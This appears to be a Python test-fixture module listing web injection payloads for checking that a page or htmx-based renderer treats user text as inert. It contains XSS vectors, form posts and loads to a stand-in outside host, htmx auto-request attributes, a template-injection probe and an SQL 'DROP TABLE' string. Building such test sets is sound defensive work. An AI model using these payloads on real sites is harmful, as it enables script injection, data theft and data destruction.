"""Texts that would do something, if a page ever took them for more than text.

Each says ``zqran`` where it would run or load something; ``RAN`` is what a script of theirs sets.
"""

from __future__ import annotations

RAN = "zqran"
_RUN = f"window.{RAN}=1"
_FAR = f"https://elsewhere.example/{RAN}"
_NEAR = f"/{RAN}"

PAYLOADS: tuple[str, ...] = (
    # Script, by element and by handler
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src={_FAR}.js></sCrIpT>",
    f"<script nonce='none' src='{_FAR}.js'></script>",
    f"<script type=module>import '{_FAR}.js'</script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' autofocus onfocus='{_RUN}' x='",
    f"` onmouseover=`{_RUN}`",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<iframe srcdoc='<script>top.{RAN}=1</script>'></iframe>",
    f"<iframe src='javascript:top.{RAN}=1'></iframe>",
    f"<object data='data:text/html,<script>top.{RAN}=1</script>'></object>",
    f"<embed src='data:text/html,<script>top.{RAN}=1</script>'>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
    # What loads, or leads away
    f"<img src='{_FAR}.png'>",
    f"<img srcset='{_FAR}.png 1x'>",
    f"<link rel=stylesheet href='{_FAR}.css'>",
    f"<link rel=prefetch href='{_FAR}'>",
    f"<style>@import '{_FAR}.css'</style>",
    f"<style>body{{background:url({_FAR}.png)}}</style>",
    f"<p style='background:url({_FAR}.png)'>x</p>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<base href='{_FAR}/'>",
    f"<video src='{_FAR}.mp4' autoplay poster='{_FAR}.png'></video>",
    f"<form action='{_FAR}' method=post><input name=x></form>",
    f"<svg><use href='{_FAR}.svg#x'/></svg>",
    f"<svg><image href='{_FAR}.png'/></svg>",
    f"<iframe src='{_FAR}'></iframe>",
    # What htmx would follow
    f"<div hx-get='{_NEAR}' hx-trigger='load'>x</div>",
    f"<div hx-get='{_NEAR}' hx-trigger='load' hx-nonce='none'>x</div>",
    f"<div data-hx-get='{_NEAR}' data-hx-trigger='load'>x</div>",
    f"<div hx-on:load='{_RUN}' hx-on::after:init='{_RUN}'>x</div>",
    f"<hx-partial hx-target='body'><script>{_RUN}</script></hx-partial>",
    f"<template hx type='partial'><script>{_RUN}</script></template>",
    f"<div hx-swap-oob='true' id='main'><script>{_RUN}</script></div>",
    # What breaks out of comments, quotes and parsers
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\u202e<script>{_RUN}</script>\u2066",
    # What a template or a database would take for its own
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}zqran{% endfor %}",
    '\'; DROP TABLE "case"; -- zqran %s %(name)s ${7*7} #{7*7}',
)
